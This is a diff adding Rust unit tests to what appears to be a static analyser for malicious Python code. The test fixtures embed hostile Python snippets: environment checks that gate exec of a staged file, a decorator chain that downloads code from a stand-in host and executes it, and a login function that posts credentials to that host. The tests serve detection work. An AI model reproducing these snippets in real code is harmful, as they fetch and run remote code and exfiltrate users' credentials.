@@ -141,3 +141,56 @@ fn a_secret_that_a_foreign_function_takes_for_nothing_is_an_event() {
     let source = "import zz_words\ndef a(mnemonic):\n    zz_words.decode(mnemonic)\ndef b(mnemonic):\n    return zz_words.encode(mnemonic)\n";
     assert_eq!(calls(source), ["zz_words.decode"]);
 }
+
+#[test]
+fn a_check_that_is_false_on_one_way_and_open_on_the_other_hides_nothing() {
+    let source = "\
+import psutil, sys
+def may_run():
+    if psutil.cpu_count() < 3:
+        return False
+    return sys.gettrace() is None
+if may_run():
+    exec(open('stage').read())
+";
+    assert_eq!(event(source, "exec").trigger, Trigger::Import);
+}
+
+#[test]
+fn a_flag_that_a_branch_may_have_set_hides_nothing() {
+    let source = "\
+import acme
+is_ready = False
+if acme.is_new():
+    is_ready = acme.n_readers < 3
+if is_ready:
+    exec(open('stage').read())
+";
+    assert_eq!(event(source, "exec").trigger, Trigger::Import);
+}
+
+#[test]
+fn a_decorator_takes_what_the_inner_one_made() {
+    let source = "\
+import urllib.request
+@exec
+@lambda answer: answer.read()
+@urllib.request.urlopen
+@lambda _: 'https://collect.example/stage'
+def _(): ...
+";
+    let event = event(source, "exec");
+    assert_eq!(event.text(Role::Code), Some("⟨urllib.request.urlopen().read()⟩"));
+}
+
+#[test]
+fn the_rest_of_the_arguments_comes_from_the_caller() {
+    let source = "\
+import requests
+def log_in(request=None, **credentials):
+    requests.post('https://collect.example/', data=credentials)
+";
+    let event = event(source, "requests.post");
+    let data = event.arguments.iter().find(|a| a.role == Role::Data);
+    assert!(data.is_some_and(|a| a.origins.kinds.contains(OriginKind::Argument)), "{event:?}");
+}
